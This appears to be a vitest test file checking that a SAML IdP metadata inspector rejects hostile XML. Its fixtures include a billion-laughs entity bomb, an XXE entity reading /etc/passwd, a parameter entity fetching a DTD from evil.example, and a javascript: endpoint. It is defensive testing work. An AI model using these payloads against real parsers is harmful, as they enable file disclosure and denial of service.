import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { inspectMetadata } from '../../../../main/saml/idp/inspection/inspector.js';
import { codes, idpXml, inspect } from './fixtures.js';

const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="&lol3;"/>`;

describe('hostile input', () => {
  it('refuses billion laughs before any entity is expanded', () => {
    const report = inspect(laughs);
    expect(report.findings).toEqual([
      expect.objectContaining({ code: 'XML_DTD_FORBIDDEN', severity: 'error', line: 2 }),
    ]);
    expect(JSON.stringify(report)).not.toContain('lollol');
  });

  it('refuses an external entity (XXE) and never reads the file', () => {
    const xxe = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>`;
    const report = inspect(xxe);
    expect(codes(report)).toEqual(['XML_DTD_FORBIDDEN']);
    expect(JSON.stringify(report)).not.toContain('root:');
  });

  it('refuses a parameter entity DTD', () => {
    const pe = `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>`;
    expect(codes(inspect(pe))).toEqual(['XML_DTD_FORBIDDEN']);
  });

  it('reports an undefined entity reference (no DTD defines it)', () => {
    const report = inspect(idpXml({ entityId: 'https://idp.example.org/&foo;' }));
    expect(report.findings[0]).toMatchObject({
      code: 'XML_NOT_WELL_FORMED',
      params: { reason: 'UNDEFINED_ENTITY' },
    });
  });

  it('refuses a file over the cap without reading it (configurable cap)', async () => {
    const report = await inspectMetadata(new Uint8Array(2048), { maxBytes: 1024 });
    expect(report.findings).toEqual([
      expect.objectContaining({ code: 'FILE_TOO_LARGE', params: { size: 2048, maxBytes: 1024 } }),
    ]);
  });

  it('refuses a 300 MB buffer with the default 256 MB cap, at once', async () => {
    const big = new Uint8Array(300 * 1024 * 1024);
    const started = performance.now();
    const report = await inspectMetadata(big);
    expect(performance.now() - started).toBeLessThan(50);
    expect(codes(report)).toEqual(['FILE_TOO_LARGE']);
  });

  it('reports binary data, an empty file and a PEM certificate as not XML', () => {
    expect(
      inspect(new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0, 0, 1, 2])).findings[0]?.params,
    ).toEqual({ reason: 'BINARY' });
    expect(inspect('').findings[0]).toMatchObject({ code: 'NOT_XML', params: { reason: 'EMPTY' } });
    expect(inspect('   \n ').findings[0]).toMatchObject({
      code: 'NOT_XML',
      params: { reason: 'EMPTY' },
    });
    expect(inspect('-----BEGIN CERTIFICATE-----\nMIIB\n').findings[0]?.params).toEqual({
      reason: 'PEM_CERTIFICATE',
    });
    expect(inspect('%PDF-1.7 binary').findings[0]?.params).toEqual({ reason: 'NO_MARKUP' });
  });

  it('decodes UTF-16 with a BOM (LE and BE) and says so', () => {
    const xml = idpXml();
    const le = new Uint8Array(
      Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]),
    );
    const report = inspect(le);
    expect(report.idp?.entityId).toBe('https://idp.example.org/saml');
    expect(codes(report)).toContain('ENCODING_TRANSCODED');
    const beBody = Buffer.from(xml, 'utf16le').swap16();
    const be = new Uint8Array(Buffer.concat([Buffer.from([0xfe, 0xff]), beBody]));
    expect(inspect(be).idp?.entityId).toBe('https://idp.example.org/saml');
    expect(codes(inspect(new Uint8Array([0xff, 0xfe, 0x3c, 0x00, 0x00, 0xd8])))).toEqual([
      'XML_ENCODING_UNSUPPORTED',
    ]);
  });

  it('accepts UTF-8 with and without BOM, and refuses an unsupported declared encoding', () => {
    const xml = `<?xml version="1.0" encoding="UTF-8"?>\n${idpXml()}`;
    expect(inspect(xml).ok).toBe(true);
    expect(inspect(`\uFEFF${xml}`).ok).toBe(true);
    const ebcdic = `<?xml version="1.0" encoding="EBCDIC-CP-US"?>\n${idpXml()}`;
    expect(codes(inspect(ebcdic))).toEqual(['XML_ENCODING_UNSUPPORTED']);
  });

  it('reads nesting up to the cap inside an IdP entity, and stops at the first level past it', () => {
    const nested = (depth: number) =>
      idpXml({
        extra: `<md:Extensions>${'<x>'.repeat(depth)}${'</x>'.repeat(depth)}</md:Extensions>`,
      });
    expect(inspect(nested(250)).ok).toBe(true);
    expect(codes(inspect(nested(200_000)))).toEqual(['XML_TOO_DEEP']);
    expect(codes(inspect(`<a>${'<x>'.repeat(200_000)}`))).toEqual(['XML_TOO_DEEP']);
  });

  it('handles 100k attributes, and finds a duplicate among them', () => {
    const attrs = Array.from({ length: 100_000 }, (_, k) => ` a${k}="v"`).join('');
    expect(inspect(`<x${attrs}/>`).findings[0]?.code).toBe('NOT_SAML_METADATA');
    const dup = inspect(`<x${attrs} a99999="w"/>`);
    expect(dup.findings[0]).toMatchObject({
      code: 'XML_NOT_WELL_FORMED',
      params: { reason: 'DUPLICATE_ATTRIBUTE' },
    });
  });

  it('resolves namespaces for real: other prefixes and default namespaces work, wrong URIs do not', () => {
    expect(inspect(idpXml({ prefix: 'saml2md' })).ok).toBe(true);
    const defaultNs = idpXml().replace(/md:/g, '').replace('xmlns:md=', 'xmlns=');
    expect(inspect(defaultNs).ok).toBe(true);
    const wrong = idpXml().replace('urn:oasis:names:tc:SAML:2.0:metadata', 'urn:example:not-saml');
    expect(inspect(wrong).findings[0]).toMatchObject({
      code: 'NOT_SAML_METADATA',
      params: { namespace: 'urn:example:not-saml' },
    });
    const unbound = idpXml().replace(' xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata"', '');
    expect(codes(inspect(unbound))).toEqual(['NOT_SAML_METADATA']);
  });

  it('flags javascript:, data: and plain http endpoints as errors, http to localhost as a warning', () => {
    const js = inspect(idpXml({ sso: 'javascript:alert(1)' }));
    expect(js.findings.find((f) => f.code === 'INSECURE_ENDPOINT_URL')).toMatchObject({
      severity: 'error',
    });
    expect(codes(inspect(idpXml({ sso: 'data:text/html,x' })))).toContain('INSECURE_ENDPOINT_URL');
    // The SP side refuses plain http too: a password would cross the network in clear text.
    const http = inspect(idpXml({ sso: 'http://idp.example.org/sso' }));
    expect(http.ok).toBe(false);
    expect(http.findings.find((f) => f.code === 'INSECURE_ENDPOINT_URL')).toMatchObject({
      severity: 'error',
      params: { problem: 'HTTP_NOT_LOCAL' },
    });
    const local = inspect(idpXml({ sso: 'http://localhost:8080/sso' }));
    expect(local.findings.find((f) => f.code === 'INSECURE_ENDPOINT_URL')).toMatchObject({
      severity: 'warning',
      params: { problem: 'HTTP_LOCALHOST' },
    });
  });

  it('reports a missing or unreadable certificate', () => {
    const none = inspect(idpXml().replace(/<md:KeyDescriptor[\s\S]*?<\/md:KeyDescriptor>/, ''));
    expect(codes(none)).toContain('CERT_MISSING');
    const garbage = inspect(idpXml({ cert: 'bm90IGEgY2VydGlmaWNhdGU=' }));
    expect(codes(garbage)).toEqual(expect.arrayContaining(['CERT_UNREADABLE', 'CERT_MISSING']));
  });

  it('requires a Redirect or POST SSO endpoint and SAML 2.0 support', () => {
    const soap = idpXml().replace('HTTP-Redirect', 'SOAP');
    expect(codes(inspect(soap))).toContain('NO_SSO_ENDPOINT');
    const saml1 = idpXml().replace(
      'urn:oasis:names:tc:SAML:2.0:protocol',
      'urn:oasis:names:tc:SAML:1.1:protocol',
    );
    expect(codes(inspect(saml1))).toContain('IDP_NO_SAML2_SUPPORT');
  });

  it('refuses nesting deeper than 256 levels where it starts, as libxml2 does', () => {
    const nest = (depth: number) => `${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`;
    expect(codes(inspect(nest(256)))).not.toContain('XML_TOO_DEEP');
    const deep = inspect(`<r>\n${'<a>'.repeat(300)}`);
    expect(deep.findings).toEqual([
      expect.objectContaining({
        code: 'XML_TOO_DEEP',
        severity: 'error',
        line: 2,
        column: 255 * 3 + 1, // `<r>` is the first level
        params: expect.objectContaining({ maxDepth: 256 }),
      }),
    ]);
  });

  it('finds nesting that only chunks together make too deep (parallel scan)', () => {
    const doc = `<r>${'<a>'.repeat(200)}${'<b/>'.repeat(400_000)}${'<a>'.repeat(200)}${'</a>'.repeat(400)}</r>`;
    expect(codes(inspect(doc, { chunks: 2 }))).toEqual(['XML_TOO_DEEP']);
  });

  it('keeps memory bounded on 90 MB of unclosed tags: a 200 MB heap is enough', () => {
    const dir = mkdtempSync(join(tmpdir(), 'docbits-deep-'));
    try {
      const file = join(dir, 'deep.xml');
      writeFileSync(file, Buffer.alloc(90 * 1024 * 1024 - 3 * 1024 * 1024, '<a>'));
      const run = spawnSync(
        process.execPath,
        [
          '--max-old-space-size=200',
          '--import',
          'tsx',
          'main/cli/index.ts',
          'idp',
          'inspect',
          file,
          '--json',
        ],
        { encoding: 'utf8', maxBuffer: 1 << 24 },
      );
      expect(run.stderr).toBe('');
      expect(run.status).toBe(1);
      expect(JSON.parse(run.stdout).findings[0].code).toBe('XML_TOO_DEEP');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
